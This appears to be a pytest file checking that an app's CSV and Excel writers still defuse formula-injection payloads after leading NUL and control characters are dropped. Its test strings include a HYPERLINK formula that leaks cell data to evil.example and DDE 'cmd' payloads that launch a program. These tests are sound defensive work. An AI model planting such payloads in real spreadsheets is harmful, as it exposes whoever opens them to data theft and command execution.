"""Breaker X19c (issue 19): a formula behind characters the writers drop.

The roster's own forms strip control characters, but the writers take any text (a database written
by an older version, a partner's answer read back): the CSV writer drops a NUL and the workbook
writer every character XML forbids, so the check for a formula must look at the text as written.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from desktop_app.domain.export_profile import ColumnKind
from desktop_app.exchange.csv_writer import csv_cell, write_csv_to
from desktop_app.exchange.sheets import SheetColumn, SheetSpec
from desktop_app.exchange.xlsx_writer import write_workbook_to

LED_BY_DROPPED = ['\x00=HYPERLINK("http://evil.example/?"&A2,"open")', "\x00\x00+cmd|' /C calc'!A0",
                  "\x01@SUM(1,1)", "\x00-2+3+cmd|' /C calc'!A0"]
WRITTEN = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+cmd|' /C calc'!A0", "@SUM(1,1)",
           "-2+3+cmd|' /C calc'!A0"]
COLUMNS = [SheetColumn("Text", ColumnKind.TEXT), SheetColumn("Document", ColumnKind.IDENTIFIER)]


def test_the_csv_cell_is_made_inert_after_a_nul_is_dropped() -> None:
    assert csv_cell(LED_BY_DROPPED[0], str) == "'" + WRITTEN[0]
    assert csv_cell("\x00-5", str) == "-5"  # still a number at worst: kept as it is
    stream = io.BytesIO()
    rows = [[text, text] for text in LED_BY_DROPPED if "\x01" not in text]
    write_csv_to(stream, [SheetSpec(name="S", title="", columns=COLUMNS, rows=iter(rows))], date_text=str)
    read = list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))
    assert read[1:] == [["'" + text] * 2 for text in WRITTEN if text != "@SUM(1,1)"]


@pytest.mark.parametrize("kind", [ColumnKind.TEXT, ColumnKind.IDENTIFIER])
def test_the_workbook_cell_is_text_with_its_quote_after_control_characters_are_dropped(kind: ColumnKind) -> None:
    stream = io.BytesIO()
    write_workbook_to(stream, [SheetSpec(name="S", title="", columns=[SheetColumn("Text", kind)],
                                         rows=iter([[text] for text in LED_BY_DROPPED]))])
    sheet = openpyxl.load_workbook(stream).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows() if row[0].value in WRITTEN]
    assert [cell.value for cell in cells] == WRITTEN
    assert [(cell.data_type, bool(cell.quotePrefix)) for cell in cells] == [("s", True)] * len(WRITTEN)


def test_dates_and_numbers_are_untouched() -> None:
    assert csv_cell(dt.date(2026, 1, 2), lambda day: day.isoformat()) == "2026-01-02" and csv_cell(7, str) == "7"
